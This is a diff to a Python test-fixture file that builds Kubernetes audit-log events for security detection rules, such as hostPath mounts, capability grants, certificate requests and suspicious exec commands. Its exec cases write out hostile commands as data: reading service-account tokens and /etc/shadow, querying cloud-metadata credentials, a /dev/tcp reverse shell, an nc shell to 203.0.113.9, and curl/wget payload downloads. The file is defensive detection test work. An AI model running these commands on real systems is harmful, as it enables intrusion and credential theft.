@@ -4,7 +4,7 @@ from __future__ import annotations
 
 from datetime import timedelta as td
 
-from make_events import T0, case, ev, pod_body, pod_create
+from make_events import T0, case, ev, missing, pod_body, pod_create
 
 CTRL_DS = "system:serviceaccount:kube-system:daemon-set-controller"
 
@@ -68,6 +68,36 @@ case(
         pod_create(
             T0, pod_body("kl", "ci", volumes=[{"name": "d", "hostPath": {"path": "/var/lib/kubelet/pki/"}}])
         ),
+        # a workload template, logged without the user's groups or sourceIPs; a path spelled to look harmless
+        missing(
+            ev(
+                T0 + td(minutes=1),
+                "create",
+                "daemonsets",
+                group="apps",
+                ns="ops",
+                level="Request",
+                req={
+                    "metadata": {"name": "agent", "namespace": "ops"},
+                    "spec": {
+                        "template": {
+                            "spec": {
+                                "containers": [{"name": "a", "image": "x"}],
+                                "volumes": [
+                                    {"name": "k", "hostPath": {"path": "//etc/kubernetes/./pki"}},
+                                    {"name": "l", "hostPath": {"path": "/var/log"}},
+                                ],
+                            }
+                        }
+                    },
+                },
+            ),
+            "user.groups",
+            "sourceIPs",
+        ),
+        pod_create(
+            T0, pod_body("up", "ci", volumes=[{"name": "d", "hostPath": {"path": "/var/log/../../etc"}}])
+        ),
     ],
     [
         pod_create(
@@ -83,8 +113,22 @@ case(
         ),
         pod_create(T0, pod_body("e", "default", volumes=[{"name": "d", "emptyDir": {}}])),
         pod_create(T0, root_pod, user="dev@example.com"),
+        # refused; made by the daemon-set controller from a reviewed template; logged without a body
+        pod_create(T0, root_pod, code=403),
+        pod_create(
+            T0, pod_body("agent-x1", "ops", volumes=[{"name": "d", "hostPath": {"path": "/"}}]), user=CTRL_DS
+        ),
+        missing(pod_create(T0, root_pod, level="Metadata"), "requestObject", "responseObject"),
+        pod_create(
+            T0,
+            pod_body(
+                "gpu",
+                "kube-system",
+                volumes=[{"name": "d", "hostPath": {"path": "/var/lib/kubelet/device-plugins"}}],
+            ),
+        ),
     ],
-    fire_rows=3,
+    fire_rows=5,
     settings={
         "allowlists": {
             "query_lists": {
@@ -95,6 +139,19 @@ case(
         }
     },
 )
+
+
+def cap_container(add: list[str]) -> dict:
+    return {"name": "a", "image": "x", "securityContext": {"capabilities": {"add": add}}}
+
+
+def debug_container(suffix: str, add: list[str]) -> dict:
+    return {
+        "name": f"debugger-{suffix}",
+        "image": "busybox",
+        "securityContext": {"capabilities": {"add": add}},
+    }
+
 
 case(
     "dangerous-capabilities",
@@ -128,6 +185,22 @@ case(
                 ],
             ),
         ),
+        # a debug container added to a running pod, logged without groups or sourceIPs
+        missing(
+            ev(
+                T0 + td(minutes=1),
+                "patch",
+                "pods",
+                ns="apps",
+                name="api-1",
+                sub="ephemeralcontainers",
+                level="Request",
+                req={"spec": {"ephemeralContainers": [debug_container("x", ["SYS_ADMIN"])]}},
+            ),
+            "user.groups",
+            "sourceIPs",
+        ),
+        pod_create(T0, pod_body("ebpf", "default", containers=[cap_container(["cap_bpf"])])),
     ],
     [
         pod_create(
@@ -143,9 +216,27 @@ case(
                     }
                 ],
             ),
-        )
+        ),
+        # runtime-default capabilities; no securityContext; refused; no body
+        pod_create(T0, pod_body("ping", "default", containers=[cap_container(["NET_RAW", "DAC_OVERRIDE"])])),
+        pod_create(T0, pod_body("plain", "default")),
+        pod_create(T0, pod_body("no", "default", containers=[cap_container(["ALL"])]), code=403),
+        missing(
+            pod_create(T0, pod_body("meta", "default"), level="Metadata"), "requestObject", "responseObject"
+        ),
+        # kubectl debug --profile=general: SYS_PTRACE for the debug container (ephemeral-container reports it)
+        ev(
+            T0,
+            "patch",
+            "pods",
+            ns="apps",
+            name="api-1",
+            sub="ephemeralcontainers",
+            level="Request",
+            req={"spec": {"ephemeralContainers": [debug_container("y", ["SYS_PTRACE"])]}},
+        ),
     ],
-    fire_rows=2,
+    fire_rows=4,
 )
 
 # --- configuration and indicator removal ---------------------------------------------------------------------
@@ -275,6 +366,29 @@ def exec_ev(t, ns, pod, cmd, *, user="alice@example.com", code=101, stage="Respo
     )
 
 
+def exec_request(t, ns, pod, cmd, stages=("RequestReceived", "ResponseStarted", "ResponseComplete"), **kw):
+    """One exec request as an audit policy logs it at `stages`: one auditID, no status at RequestReceived.
+
+    ("ResponseComplete",) is a policy that omits ResponseStarted (and RequestReceived); all three count once.
+    """
+    events = []
+    for stage in stages:
+        e = exec_ev(t, ns, pod, cmd, stage=stage, audit_id=events[0]["auditID"] if events else None, **kw)
+        if stage == "RequestReceived":
+            del e["responseStatus"]
+            e["stageTimestamp"] = e["requestReceivedTimestamp"]
+        events.append(e)
+    return events
+
+
+def exec_stage_variants(t, ns, pod, cmd, **kw):
+    """The same exec logged with only ResponseComplete, and with all three stages: one finding each."""
+    return [
+        *exec_request(t, ns, pod, cmd, stages=("ResponseComplete",), **kw),
+        *exec_request(t + td(minutes=1), ns, pod, cmd, **kw),
+    ]
+
+
 TOKEN = "cat /var/run/secrets/kubernetes.io/serviceaccount/token"
 case(
     "exec-cmd-credential-files",
@@ -297,44 +411,79 @@ case(
             audit_id="c0ffee00-0000-4000-8000-000000000001",
         ),
         exec_ev(T0, "apps", "api-1", "sh -c cat /etc/shadow"),
+        *exec_stage_variants(T0 + td(minutes=5), "apps", "api-1", TOKEN),
     ],
     [
         exec_ev(T0, "apps", "api-1", "cat /etc/resolv.conf"),
         exec_ev(T0, "apps", "api-1", TOKEN, code=403, stage="ResponseComplete"),
         ev(T0, "get", "pods", ns="apps", name="api-1"),
+        *exec_request(T0, "apps", "api-1", TOKEN, stages=("RequestReceived",)),
     ],
-    fire_rows=2,
+    fire_rows=4,
 )
 case(
     "exec-cmd-cloud-metadata",
     [
         exec_ev(
             T0, "apps", "api-1", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"
-        )
+        ),
+        *exec_stage_variants(
+            T0 + td(minutes=5), "apps", "api-1", "curl -s http://169.254.169.254/latest/api/token"
+        ),
     ],
-    [exec_ev(T0, "apps", "api-1", "curl -s http://api.apps.svc:8080/healthz")],
-    fire_rows=1,
+    [
+        exec_ev(T0, "apps", "api-1", "curl -s http://api.apps.svc:8080/healthz"),
+        *exec_request(
+            T0, "apps", "api-1", "curl -s http://169.254.169.254/", stages=("ResponseComplete",), code=403
+        ),
+    ],
+    fire_rows=3,
 )
 case(
     "exec-cmd-reverse-shell",
-    [exec_ev(T0, "apps", "api-1", "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")],
-    [exec_ev(T0, "apps", "api-1", "bash -c ls /tmp")],
-    fire_rows=1,
+    [
+        exec_ev(T0, "apps", "api-1", "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
+        *exec_stage_variants(T0 + td(minutes=5), "apps", "api-1", "sh -c nc -e /bin/sh 203.0.113.9 4444"),
+    ],
+    [
+        exec_ev(T0, "apps", "api-1", "bash -c ls /tmp"),
+        *exec_request(
+            T0,
+            "apps",
+            "api-1",
+            "sh -c nc -e /bin/sh 203.0.113.9 4444",
+            stages=("ResponseComplete",),
+            code=403,
+        ),
+    ],
+    fire_rows=3,
 )
 case(
     "exec-cmd-download-https",
-    [exec_ev(T0, "apps", "api-1", "curl -sLO https://203.0.113.9/x.sh")],
+    [
+        exec_ev(T0, "apps", "api-1", "curl -sLO https://203.0.113.9/x.sh"),
+        *exec_stage_variants(T0 + td(minutes=5), "apps", "api-1", "wget -q https://203.0.113.9/y.sh"),
+    ],
     [
         exec_ev(T0, "apps", "api-1", "curl -s http://localhost:8080/healthz"),
+        *exec_request(
+            T0, "apps", "api-1", "wget -q https://203.0.113.9/y.sh", stages=("ResponseComplete",), code=403
+        ),
         exec_ev(T0, "apps", "api-1", "wget -qO- http://api.apps.svc.cluster.local/metrics"),
     ],
-    fire_rows=1,
+    fire_rows=3,
 )
 case(
     "exec-cmd-kubectl-cp",
-    [exec_ev(T0, "db", "postgres-0", "tar cf - /var/lib/postgresql/data")],
-    [exec_ev(T0, "db", "postgres-0", "tar xmf - -C /tmp")],
-    fire_rows=1,
+    [
+        exec_ev(T0, "db", "postgres-0", "tar cf - /var/lib/postgresql/data"),
+        *exec_stage_variants(T0 + td(minutes=5), "db", "postgres-0", "tar cf - /etc/postgresql"),
+    ],
+    [
+        exec_ev(T0, "db", "postgres-0", "tar xmf - -C /tmp"),
+        *exec_request(T0, "db", "postgres-0", "tar cf - /etc", stages=("ResponseComplete",), code=403),
+    ],
+    fire_rows=3,
 )
 case(
     "exec-kube-system-pod",
@@ -356,12 +505,16 @@ case(
             stage="ResponseComplete",
             audit_id="c0ffee00-0000-4000-8000-000000000002",
         ),
+        *exec_stage_variants(
+            T0 + td(minutes=5), "kube-system", "coredns-1", "sh", user="mallory@example.com"
+        ),
     ],
     [
         exec_ev(T0, "apps", "api-1", "ls"),
         exec_ev(T0, "kube-system", "coredns-1", "ls", code=403, stage="ResponseComplete"),
+        *exec_request(T0, "kube-system", "coredns-1", "sh", stages=("RequestReceived",)),
     ],
-    fire_rows=1,
+    fire_rows=3,
 )
 case(
     "ephemeral-container",
@@ -439,6 +592,24 @@ case(
             sub="approval",
             user="mallory@example.com",
         ),
+        # a log without the user's groups, without sourceIPs, or without the user at all is still judged
+        missing(
+            ev(
+                T0,
+                "create",
+                "certificatesigningrequests",
+                group="certificates.k8s.io",
+                name="eve-admin",
+                user="eve@example.com",
+            ),
+            "user.groups",
+            "sourceIPs",
+        ),
+        missing(
+            ev(T0, "create", "certificatesigningrequests", group="certificates.k8s.io", name="who-admin"),
+            "user.username",
+            "user.groups",
+        ),
     ],
     [
         ev(
@@ -467,8 +638,29 @@ case(
             sub="approval",
             user="system:kube-controller-manager",
         ),
+        # a node's request without its groups is still a node's
+        missing(
+            ev(
+                T0,
+                "create",
+                "certificatesigningrequests",
+                group="certificates.k8s.io",
+                name="csr-x3",
+                user="system:node:node-2",
+            ),
+            "user.groups",
+        ),
+        ev(
+            T0,
+            "create",
+            "certificatesigningrequests",
+            group="certificates.k8s.io",
+            name="denied",
+            user="mallory@example.com",
+            code=403,
+        ),
     ],
-    fire_rows=2,
+    fire_rows=4,
 )
 R = "rbac.authorization.k8s.io"
 wild = role_body("ClusterRole", "ops-all", [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}])
@@ -722,6 +914,9 @@ case(
         ev(T0, "list", "secrets", user=SA, ip="203.0.113.77"),
         ev(T0 + td(seconds=5), "list", "pods", user=SA, ip="203.0.113.77"),
         ev(T0, "get", "nodes", name="node-1", user="system:node:node-1", ip="198.51.100.20"),
+        # Issue 13: a stolen token from the internet with a forged `X-Forwarded-For: 10.0.0.1` is still public.
+        ev(T0, "list", "secrets", user=SA, ip=["10.0.0.1", "45.155.205.233"]),
+        ev(T0, "get", "nodes", name="node-3", user="system:node:node-3", ip="2a05:d014:abc::7"),
     ],
     [
         ev(T0, "get", "configmaps", ns="apps", name="cfg", user=SA, ip="10.244.3.17"),
@@ -729,10 +924,24 @@ case(
         ev(T0, "get", "configmaps", ns="apps", name="cfg", user=SA, ip="100.64.2.1"),
         ev(T0, "get", "pods", user="alice@example.com", ip="203.0.113.77"),
         ev(T0, "get", "nodes", name="node-2", user="system:node:node-2", ip="192.0.2.44"),
+        # Judged on the connection address: a public X-Forwarded-For entry behind an internal load balancer.
+        ev(T0, "get", "configmaps", ns="apps", name="cfg", user=SA, ip=["203.0.113.9", "10.0.0.4"]),
+        ev(T0, "get", "configmaps", ns="apps", name="cfg", user=SA, ip="::ffff:10.0.0.7"),
+        ev(T0, "get", "configmaps", ns="apps", name="cfg", user=SA, ip="fd12:3456::9"),
+        ev(T0, "get", "configmaps", ns="apps", name="cfg", user=SA, ip="fe80::1"),
+        ev(T0, "get", "nodes", name="node-4", user="system:node:node-4", ip="2001:db8:1::5"),  # trusted /32
+        ev(T0, "get", "configmaps", ns="apps", name="cfg", user=SA, ip="not-an-address"),
+        ev(T0, "get", "configmaps", ns="apps", name="cfg", user=SA, ip=[]),
+        ev(T0, "get", "configmaps", ns="apps", name="cfg", user=SA, ip=None),
     ],
-    fire_rows=2,
+    fire_rows=4,
     settings={
-        "allowlists": {"trusted_networks": [{"cidr": "192.0.2.0/24", "reason": "on-prem node subnet (NAT)"}]}
+        "allowlists": {
+            "trusted_networks": [
+                {"cidr": "192.0.2.0/24", "reason": "on-prem node subnet (NAT)"},
+                {"cidr": "2001:db8::/32", "reason": "on-prem IPv6 node range"},
+            ]
+        }
     },
 )
 case(
